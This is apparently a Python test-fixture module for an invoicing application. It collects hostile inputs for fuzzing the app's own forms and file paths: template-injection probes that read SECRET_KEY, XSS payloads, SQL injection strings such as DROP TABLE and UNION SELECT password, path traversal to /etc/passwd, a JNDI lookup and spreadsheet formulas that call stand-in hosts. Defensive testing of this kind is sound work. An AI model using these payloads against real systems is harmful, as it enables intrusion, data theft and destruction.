"""What strangers type. Each text carries a product that only a machine that computes it can know."""

from collections.abc import Sequence
from typing import Any
from zlib import crc32

from tests.tier import LONG


def some(texts: Sequence[Any], key: str, most: int) -> list[Any]:
    """In the long tier all of them. Before a commit so many for each key, other ones for another key: all keys together try all."""
    if LONG:
        return list(texts)
    start = crc32(key.encode())
    return [texts[(start + n) % len(texts)] for n in range(min(most, len(texts)))]


PRODUCT = "62615533"
"""7919 times 7907: if it shows up anywhere, something typed was run."""

TEMPLATES = [
    "{{7919*7907}}", "${7919*7907}", "#{7919*7907}", "<%= 7919*7907 %>", "{7919*7907}", "{{7919|mul:7907}}", "[[${7919*7907}]]",
    "{{ self.__init__.__globals__ }}", "{number.__class__}", "{number!r}", "{0.__class__.__mro__}", "{company.__init__.__globals__[SECRET_KEY]}",
    "{% debug %}", "{% load static %}{{ settings.SECRET_KEY }}", "{% include '/etc/passwd' %}", "%(number)s", "%s%s%n", "$(7919*7907)",
    "`7919*7907`", '#eval("7919*7907")', "#{ 7919 * 7907 }", "$ 7919 * 7907 $", '#read("/etc/passwd")', '#import "/etc/passwd"',
    "{{ frappe.db.sql('select 7919*7907') }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "*{7919*7907}", "@(7919*7907)",
    "{{= 7919*7907 }}", "\\input{/etc/passwd}", "{php}echo 7919*7907;{/php}", "<?php echo 7919*7907; ?>", "{{constructor.constructor('return 7919*7907')()}}",
]  # fmt: skip

TAG = "xss7f3e"
SCRIPTS = [
    f"<script>{TAG}()</script>", f"<img src=x onerror={TAG}()>", f'"><svg onload={TAG}()>', f"'><iframe srcdoc='<script>{TAG}()'>",
    f"</title><script>{TAG}()</script>", f"</textarea><script>{TAG}()</script>", f"--><script>{TAG}()</script>",
    f"<a href=javascript:{TAG}()>x</a>", f"<details open ontoggle={TAG}()>", f"<x-{TAG} style=animation-name:x onanimationstart=1>",
    f"<style>@import'//{TAG}.example'</style>", f"<base href=//{TAG}.example>", f"<meta http-equiv=refresh content='0;//{TAG}.example'>",
    f'" autofocus onfocus={TAG}() x="', f"<math><mtext><script>{TAG}()</script>", f"<noscript><p title='</noscript><img src=x onerror={TAG}()>'>",
    f"<form action=//{TAG}.example><input type=submit>", f"<object data=//{TAG}.example>", f"<link rel=stylesheet href=//{TAG}.example>",
    f"</style><script>{TAG}()</script>", f'<!--<img src="--><img src=x onerror={TAG}()>">', f"]]><script>{TAG}()</script>",
]  # fmt: skip

QUERIES = [
    "'", '"', "' OR 1=1 --", "1; DROP TABLE store_user --", "' UNION SELECT password FROM store_user --", "1' AND SLEEP(5) --",
    "') OR ('1'='1", "id; --", "name DESC, (SELECT 1)", "-(SELECT pg_sleep(5))", "company__memberships__user__password",
    "company_id", "%", "_", "\\", "%%%%%%", "\x00", "\ud7ff", "\U0001f4a9", "𝕊𝔼𝕃", "a" * 3000, "-1", "0", "1e308", "NaN", "Infinity",
    "9" * 400, "0x41", "null", "true", "[]", "{}", "[1", "../../etc/passwd", "..%2f..%2f", "${jndi:ldap://x.example/a}", "{{1}}",
    "2026-02-30", "9999-99-99", "0000-00-00", "99999-01-01", "eyJhIjoxfQ", "WzFd", "W251bGwsbnVsbF0", "WyJhIiwiYiJd", "WzEsMl0", "Wy0xLCJpbnZfIl0",
    "W1tdLFtdXQ", "WzllOTk5LDFd", "WyIyMDI2LTAxLTAxIiwieCJd", "WyIyMDI2LTAyLTMwVDAwOjAwIiwieCJd", "WyJcdTAwMDAiLCJ4Il0", "\r\nSet-Cookie: a=b",
]  # fmt: skip

PATHS = [
    "..", "../", "../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fsecret.key", "....//....//etc/passwd",
    "..\\..\\windows\\win.ini", "..%5c..%5c", "/etc/passwd", "%2fetc%2fpasswd", "file:///etc/passwd", "pdf%00.png", "pdf/../ubl",
    "pdf;.css", "PDF", "php://filter/convert.base64-encode/resource=index", "con", "nul", "~root", "$HOME", "__init__", "__class__",
    "duebook.main.settings:SECRET_KEY", "os:system", "facturx.__init__", "json/../yaml", "%252e%252e%252f", "..;/", "%c0%ae%c0%ae%2f",
    "．．／etc／passwd", "a" * 300, "pdf ", " pdf", "pdf\t", "*", "?", "pdf%0d%0a", "-rf", "ubl:FORMAT", "zh-../../x",
]  # fmt: skip

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example")', '=IMPORTXML("http://x.example")', '=WEBSERVICE("http://x.example")',
    "@import", "+49|calc", "-2+3+cmd|' /C calc'!A0", "=", "+", "-", "@", '="x"', ";=1+1", ",=1+1", '"=1+1', "'=1+1", "\t \t=1",
]  # fmt: skip
